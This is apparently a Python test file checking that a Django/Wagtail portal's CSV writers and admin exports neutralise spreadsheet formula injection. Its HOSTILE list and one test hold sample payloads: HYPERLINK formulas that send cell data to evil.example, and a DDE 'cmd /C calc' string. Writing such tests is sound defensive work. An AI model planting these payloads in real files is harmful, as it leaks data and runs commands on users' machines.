"""CSV written by the project, and Wagtail's admin CSV exports, open in a spreadsheet as text:
no cell starts a formula."""

import csv
import io

from django.utils import timezone

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import pytest

from portal import csv as safe_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Homework club", "a=b", "2024-05-01", "", "Malmö – Göteborg"]


def read(text):
    return list(csv.reader(io.StringIO(text)))


def test_writer_prefixes_formula_cells_and_keeps_the_rest():
    out = io.StringIO()
    writer = safe_csv.writer(out)
    writer.writerow([*HOSTILE, *HARMLESS, 42, -7, None])
    writer.writerows([["=1", "ok"]])
    first, second = read(out.getvalue())
    assert first[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert first[len(HOSTILE) :] == [*HARMLESS, "42", "-7", ""]
    assert second == ["'=1", "ok"]


def test_dict_writer_prefixes_cells_and_headers():
    out = io.StringIO()
    writer = safe_csv.DictWriter(out, fieldnames=["=title", "summary"])
    writer.writeheader()
    writer.writerow({"=title": "@SUM(A1)", "summary": "Fine"})
    writer.writerows([{"=title": "-1", "summary": "+1"}])
    assert read(out.getvalue()) == [
        ["'=title", "summary"],
        ["'@SUM(A1)", "Fine"],
        ["'-1", "'+1"],
    ]


@pytest.fixture
def formula_safe_exports(monkeypatch):
    """Apply the protection, and take it off again after the test."""
    monkeypatch.setattr(
        SpreadsheetExportMixin,
        "preprocess_field_value",
        SpreadsheetExportMixin.preprocess_field_value,
    )
    monkeypatch.setattr(SpreadsheetExportMixin, "_formula_safe", False, raising=False)
    safe_csv.protect_wagtail_exports()
    safe_csv.protect_wagtail_exports()  # idempotent: wrapped once


@pytest.mark.django_db
def test_wagtail_admin_csv_export_is_formula_safe(
    client, make_user, make_practice, formula_safe_exports
):
    admin = make_user("admin@example.org", superuser=True)
    title = '=HYPERLINK("https://evil.example","Open")'
    practice = make_practice(title=title)
    practice.locked, practice.locked_by, practice.locked_at = True, admin, timezone.now()
    practice.save()
    client.force_login(admin)

    response = client.get("/admin/reports/locked/?export=csv")
    assert response.status_code == 200
    rows = read(b"".join(response.streaming_content).decode())
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + title in cells
    assert title not in cells
